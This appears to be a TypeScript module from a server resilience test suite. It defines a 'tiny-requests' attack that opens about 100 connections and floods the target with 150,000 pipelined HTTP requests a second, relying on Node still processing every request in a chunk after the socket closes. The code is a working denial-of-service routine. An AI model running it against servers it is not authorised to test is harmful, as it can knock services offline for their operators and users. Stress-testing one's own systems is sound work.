import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { Connection } from './connection.ts'

/** 54 KiB, so that a connection sends all of them in one chunk. */
const requests = 'GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1500)

/** Node emits every request of a chunk, even if the socket was closed at the first one. */
export const tinyRequests: Attack = {
  name: 'tiny-requests',
  title: '150,000 pipelined requests on 100 connections, 1,500 in a chunk, each second, without a token',
  mebibytes: 300,
  async run(target) {
    const end = performance.now() + target.span
    while (performance.now() < end) {
      const connections = await Connection.openMany(target, target.scaled(100))
      for (const connection of connections) connection.write(requests)
      await pause(target.span / 5)
      for (const connection of connections) connection.abandon()
    }
  },
}
